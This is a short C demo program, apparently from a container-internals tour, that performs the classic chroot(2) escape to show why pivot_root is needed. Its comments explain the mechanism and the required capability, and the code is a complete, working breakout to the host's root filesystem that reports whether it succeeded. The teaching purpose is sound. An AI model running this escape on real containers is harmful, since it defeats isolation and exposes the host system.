/* The classic chroot(2) escape, for the tour's `run --skip pivot-root`.
 *
 * chroot() changes where path lookups start ("/"), not the working
 * directory. Chroot into a subdirectory while standing outside it, and
 * chdir("..") walks up past the old root: with chroot, to the host's real
 * "/", still mounted above the container's; after pivot_root, the old root
 * was unmounted, so ".." stops at the container's own "/".
 * It needs CAP_SYS_CHROOT, which Docker's default set keeps.
 */
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(void)
{
    mkdir("/escape-dir", 0755);
    if (chroot("/escape-dir") != 0) {      /* our cwd is now outside our root */
        perror("chroot");
        return 1;
    }
    for (int i = 0; i < 64; i++)
        chdir("..");
    chroot(".");
    if (access("/etc/os-release", F_OK) == 0)
        puts("escaped: this / has /etc/os-release, which busybox lacks: it is the host's");
    else
        puts("still inside: this / is the container's own");
    return 0;
}
